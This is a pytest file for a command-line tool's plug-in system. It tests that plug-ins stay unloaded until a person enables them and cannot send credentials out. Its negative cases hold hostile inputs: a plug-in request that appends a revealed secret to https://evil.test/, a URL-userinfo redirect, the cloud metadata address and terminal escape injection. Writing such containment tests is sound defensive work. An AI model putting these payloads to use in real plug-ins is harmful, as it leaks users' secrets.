"""Plug-ins: nothing of a stranger runs before it is enabled, and nothing of it gets out after."""

import json
import stat
from pathlib import Path

import pytest

from tests.cli.program import Program
from tests.cli.servers import GOOD, ScriptedServer
from tests.cli.sites import ROW, Site
from tests.cli.terminals import at_terminal

# A dialect of its own, whose `probe` begins with what a test puts there.
OWN = (
    ROW
    + """
import time
from adapters.providers.dialects.openai import OpenAIDialect
class Speaks(OpenAIDialect):
    def probe(self, row, access, model, max_tokens, now):
        if model != "conformance-model":
            {does}
        return (yield from super().probe(row, access, model, max_tokens, now))
PLUGIN = ProviderPlugin(ROW, Speaks())
"""
)


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return Site(tmp_path / "site")


def enabled(cli: Program, site: Site, code: str) -> None:
    site.install(code)
    ran = site.run(cli, "plugins enable acme --yes")
    assert ran.code == 0, ran


def signed_in(cli: Program, site: Site) -> None:
    for words in ("models auth add --provider acme --stdin --no-verify", "models set acme/ok"):
        ran = site.see(cli, words, GOOD)
        assert ran.code == 0, ran


def shown(cli: Program, site: Site) -> tuple[str, str | None]:
    told = site.see(cli, "plugins info acme --json").document["plugin"]
    return told["status"], told["reason"]


def probed(cli: Program, site: Site, more: str = "") -> dict[str, str]:
    """The result of each target, by its credential: `outcome: detail`."""
    ran = site.run(cli, f"models status --probe --json {more}")
    assert ran.code == 0, ran
    results = ran.document["auth"]["probes"]["results"]
    return {r["profileId"]: f"{r['status']}: {r['error']}" for r in results}


def test_a_plug_in_is_imported_by_enable_and_by_nothing_that_reads(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    site.install(ROW.format(url=server.url))
    for words in ("plugins list", "plugins info acme", "models status", "models providers list"):
        assert site.run(cli, words).code == 0
    assert not site.imported.exists()
    assert not cli.home.exists()

    assert site.run(cli, "plugins enable acme --yes").code == 0
    assert site.imported.read_text() == "once\n"
    signed_in(cli, site)
    for words in ("plugins list", "models status", "models providers list", "models auth list"):
        assert "acme" in site.run(cli, words).out
    assert site.imported.read_text() == "once\n"
    assert server.seen == []

    assert probed(cli, site) == {"acme:default": "ok: None"}
    assert site.imported.read_text() == "once\n" * 2


def test_the_list_of_enabled_plug_ins_is_ours_alone_and_not_in_the_store(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    enabled(cli, site, ROW.format(url=server.url))
    file = cli.home / "config" / "plugins.json"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    assert not cli.store.exists()
    (kept,) = json.loads(file.read_text())["plugins"]
    assert (kept["distribution"], kept["version"], len(kept["record"])) == ("aura-acme", "1.0", 64)

    file.chmod(0o666)
    ran = site.see(cli, "models status --json")
    assert (ran.code, ran.error["type"]) == (69, "unsafe_file")
    file.chmod(0o600)
    file.write_text('{"plugins": [{"id": 1}]}')
    ran = site.see(cli, "models status")
    assert ran.code == 69
    assert f"{file} is damaged" in ran.err


def test_nothing_is_enabled_without_a_person_or_yes(cli: Program, site: Site) -> None:
    site.install(ROW.format(url="https://acme.test/v1"))
    for words in ("plugins enable acme", "plugins enable acme --no-input"):
        ran = site.run(cli, words)
        assert (ran.code, ran.out) == (64, "")
        assert "plugins enable acme --yes" in ran.err
    for answer, code in (("n\r", 1), ("y\r", 0)):
        with at_terminal(cli, "plugins enable acme") as terminal:
            terminal.until("acme is code of aura-acme 1.0")
            terminal.until("[y/N]: ")
            assert not site.imported.exists()
            terminal.type(answer)
            assert terminal.finish() == code
    assert shown(cli, site) == ("loaded", None)


def test_another_version_or_other_files_ask_again(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    code = ROW.format(url=server.url)
    enabled(cli, site, code)
    signed_in(cli, site)
    imported = site.imported.read_text()

    site.install(code, version="1.1")
    status, reason = shown(cli, site)
    assert status == "disabled"
    assert reason == "version 1.1 is installed, 1.0 was enabled: enable it again to use it"
    site.install(code + "# changed\n")
    assert shown(cli, site)[0] == "disabled"
    assert probed(cli, site) == {
        "acme:default": "unreadable: its files are not those that were enabled: "
        "enable it again to use it"
    }
    assert (site.imported.read_text(), server.seen) == (imported, [])

    assert site.run(cli, "plugins enable acme --yes").code == 0
    assert probed(cli, site) == {"acme:default": "ok: None"}


def test_files_that_differ_from_their_list_are_not_imported(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    enabled(cli, site, ROW.format(url=server.url))
    signed_in(cli, site)
    imported = site.imported.read_text()
    (module,) = site.folder.glob("module_of_*.py")
    module.write_text(module.read_text() + "# changed in its place\n")
    said = "its files were changed after they were installed"
    assert probed(cli, site) == {"acme:default": f"unreadable: {said}"}
    assert site.imported.read_text() == imported
    assert shown(cli, site) == ("error", said)


def test_a_plug_in_that_was_uninstalled_leaves_its_profiles(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    enabled(cli, site, ROW.format(url=server.url))
    signed_in(cli, site)
    site.remove()
    assert shown(cli, site) == ("error", "its distribution aura-acme is not installed")
    assert probed(cli, site) == {
        "acme:default": "unreadable: its distribution aura-acme is not installed"
    }
    listed = site.see(cli, "models auth list").out
    assert "its plug-in is not installed as it was enabled; see: plugins list" in listed
    status = site.see(cli, "models status --json").document["auth"]
    (unusable,) = status["unusableProfiles"]
    assert (unusable["profileId"], "plugin_gone" in unusable.values()) == ("acme:default", True)
    assert site.see(cli, "plugins disable acme").code == 0
    assert "acme:default" in site.see(cli, "models auth list").out
    assert "acme" not in site.see(cli, "plugins list --plain").out


REFUSED = {
    "missing": ("raise ImportError('no')", "its code raised ImportError"),
    "exits": ("raise SystemExit(0)", "its code raised SystemExit"),
    "no plug-in": ("PLUGIN = 3", "its entry point is no ProviderPlugin"),
    "no source": (
        ROW.replace('source="plugin"', 'source="builtin"'),
        'its row has to say source="plugin"',
    ),
    "another name": (ROW.replace('id="acme"', 'id="groq"'), "its row calls itself groq"),
    "a variable of ours": (
        ROW.replace("ACME_API_KEY", "OPENAI_API_KEY"),
        "OPENAI_API_KEY belongs to the provider openai",
    ),
    "a variable of this program": (
        ROW.replace("ACME_API_KEY", "AURA_INTELLIGENCE_VAULT_KEY"),
        "belongs to this program",
    ),
    "plain http": (ROW.replace("{url!r}", "'http://models.test/v1'"), "plain http"),
    "metadata": (ROW.replace("{url!r}", "'https://169.254.169.254'"), "no models are served"),
    "a check elsewhere": (
        ROW.replace("source=", 'check_url="https://evil.test/x", source='),
        "its free check goes elsewhere",
    ),
    "escapes": (ROW.replace('label="Acme"', 'label="A\\x1b[2J"'), "control characters"),
    "a wrong type": (ROW.replace('label="Acme"', "label=3"), "its field label is not what"),
    "no dialect": (
        ROW.replace('ProviderPlugin(ROW, "openai")', 'ProviderPlugin(ROW, "klingon")'),
        "there is no dialect of that name",
    ),
    "prints": (
        OWN.replace('if model != "conformance-model":', "if print('x') is None:"),
        "printed",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_plug_in_that_is_not_right_is_named_and_not_enabled(
    cli: Program, site: Site, name: str
) -> None:
    code, reason = REFUSED[name]
    filled = code.replace("{url!r}", "'https://acme.test/v1'").replace("{does}", "pass")
    site.install(filled)
    ran = site.run(cli, "plugins enable acme --yes --json")
    assert (ran.code, ran.error["type"]) == (1, "plugin_failed"), ran
    assert reason in ran.error["message"]
    assert ran.err == ""
    status, why = shown(cli, site)
    assert (status, reason in (why or "")) == ("error", True)
    assert "\x1b" not in site.see(cli, "plugins list --verbose").text
    assert "acme" not in site.see(cli, "models providers list --plain").out


def test_a_name_of_a_provider_of_ones_own_is_not_taken(cli: Program, site: Site) -> None:
    cli.must("models providers add acme --base-url https://own.test/v1 --dialect openai")
    site.install(ROW.format(url="https://acme.test/v1"))
    ran = site.run(cli, "plugins enable acme --yes")
    assert ran.code == 1
    assert "acme is a provider already" in ran.err
    assert not site.imported.exists()
    assert shown(cli, site) == ("error", "takes the name of a provider of your own")
    assert "https://own.test/v1" in site.see(cli, "models providers list --plain").out


def test_a_plug_in_s_name_is_free_for_no_provider_of_ones_own(cli: Program, site: Site) -> None:
    enabled(cli, site, ROW.format(url="https://acme.test/v1"))
    ran = site.see(cli, "models providers add acme --base-url https://x.test --dialect openai")
    assert (ran.code, ran.out) == (1, "")
    removed = site.see(cli, "models providers remove acme")
    assert (removed.code, removed.err.splitlines()[1]) == (
        1,
        "hint: aura_intelligence plugins disable acme",
    )


def test_two_distributions_with_one_name_are_both_refused(cli: Program, site: Site) -> None:
    site.install(ROW.format(url="https://acme.test/v1"))
    site.install(ROW.format(url="https://evil.test/v1"), distribution="aura-evil")
    ran = site.run(cli, "plugins enable acme --yes")
    assert ran.code == 1
    assert "acme is offered by aura-acme and aura-evil" in ran.err
    assert not site.imported.exists()


@pytest.mark.parametrize(
    ("does", "outcome", "reason"),
    [
        ("raise KeyError(access.secret.reveal())", "unreadable", "its code raised KeyError"),
        ("raise SystemExit(3)", "unreadable", "its code raised SystemExit"),
        pytest.param(
            "return 3",
            "unreadable",
            "it returns something that is not a verdict",
            marks=pytest.mark.soak,
        ),
        ("yield 3", "unreadable", "it yields something that is not a request"),
        pytest.param(
            "yield Request('GET', 'https://evil.test/' + access.secret.reveal())",
            "unreadable",
            "it asked for another host than its credential's; nothing was sent",
            marks=pytest.mark.soak,
        ),
        (
            "yield Request('GET', access.base_url.replace('/v1', '@evil.test/'))",
            "unreadable",
            "it asked for another host than its credential's; nothing was sent",
        ),
    ],
)
def test_a_plug_in_that_fails_harms_no_other_target(
    gateway: Program, site: Site, server: ScriptedServer, does: str, outcome: str, reason: str
) -> None:
    enabled(gateway, site, OWN.replace("{does}", does).format(url=server.url))
    signed_in(gateway, site)
    found = probed(gateway, site)
    assert found["gate:default"] == "ok: None"
    assert found["acme:default"] == f"{outcome}: {reason}"
    assert shown(gateway, site) == ("error", reason)
    assert len(server.seen) == 1
    assert all(GOOD.encode() not in content for content in gateway.files().values())


def test_what_a_plug_in_prints_goes_to_stderr(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    enabled(cli, site, OWN.replace("{does}", "print('a word of mine')").format(url=server.url))
    signed_in(cli, site)
    ran = site.run(cli, "models status --probe --json")
    assert (ran.code, ran.err) == (0, "a word of mine\n")
    assert ran.document["auth"]["probes"]["results"][0]["status"] == "ok"
    assert shown(cli, site) == ("loaded", None)


def test_enable_shows_what_it_pins(cli: Program, site: Site) -> None:
    site.install(ROW.format(url="https://acme.test/v1"))
    ran = site.run(cli, "plugins enable acme --yes")
    assert ran.out == "Enabled acme (aura-acme 1.0, 1 file pinned): https://acme.test/v1\n"


def test_a_failure_is_forgotten_when_it_does_well_again(
    cli: Program, site: Site, server: ScriptedServer, tmp_path: Path
) -> None:
    trigger = tmp_path / "trigger"
    does = f"import os; assert not os.path.exists({str(trigger)!r})"
    enabled(cli, site, OWN.replace("{does}", does).format(url=server.url))
    signed_in(cli, site)
    trigger.touch()
    assert probed(cli, site) == {"acme:default": "unreadable: its code raised AssertionError"}
    assert shown(cli, site)[0] == "error"
    trigger.unlink()
    assert probed(cli, site) == {"acme:default": "ok: None"}
    assert shown(cli, site) == ("loaded", None)


def test_a_plug_in_checks_a_key_before_it_is_saved(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    enabled(cli, site, ROW.format(url=server.url))
    ran = site.run(cli, "models auth add --provider acme --stdin", "sk-scripted-bad-00002")
    assert (ran.code, ran.out) == (1, "")
    assert "refused this credential" in ran.err
    assert site.run(cli, "models auth add --provider acme --stdin", GOOD).code == 0
    assert [path for path, _, _ in server.seen] == ["/v1/models"] * 2


def test_a_plug_in_s_variable_is_used_once_it_is_enabled(
    cli: Program, site: Site, server: ScriptedServer
) -> None:
    cli.environ["ACME_API_KEY"] = GOOD
    site.install(ROW.format(url=server.url))
    assert "ACME_API_KEY" not in site.see(cli, "models auth list").out
    enabled(cli, site, ROW.format(url=server.url))
    assert "ACME_API_KEY" in site.see(cli, "models auth list").out


def test_a_plug_in_can_be_disabled_and_asked_about(cli: Program, site: Site) -> None:
    enabled(cli, site, ROW.format(url="https://acme.test/v1"))
    told = site.see(cli, "plugins info acme --json").document["plugin"]
    assert told["baseUrl"] == "https://acme.test/v1"
    assert told["docsUrl"] == "https://acme.test/keys"
    assert (told["quirks"], told["uncertain"]) == ("It is small.", ["probe_model"])
    assert (told["profileIds"], told["dialect"]) == ([], "openai")
    again = site.run(cli, "plugins enable acme --json").document
    assert again["changed"] is False

    off = site.see(cli, "plugins disable acme --json").document
    assert off["changed"] is True
    assert site.see(cli, "plugins disable acme --json").document["changed"] is False
    assert site.see(cli, "models set acme/x").code == 1


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("plugins info nosuch", "no plug-in nosuch is installed"),
        ("plugins info opanai", "hint: did you mean openai"),
        ("plugins enable nosuch --yes", "no plug-in nosuch is installed"),
        ("plugins disable nosuch", "no plug-in nosuch is installed"),
        ("plugins enable openai --yes", "openai is built in"),
        ("plugins disable builtin", "builtin is built in"),
    ],
)
def test_a_plug_in_that_is_not_there_is_said_so(cli: Program, words: str, said: str) -> None:
    ran = cli(words)
    assert (ran.code, ran.out) == (1, "")
    assert said in ran.err
    assert not cli.home.exists()


def test_a_built_in_provider_can_be_asked_about_too(gateway: Program) -> None:
    out = gateway("plugins info anthropic").out
    assert "https://api.anthropic.com" in out
    assert "ANTHROPIC_API_KEY" in out
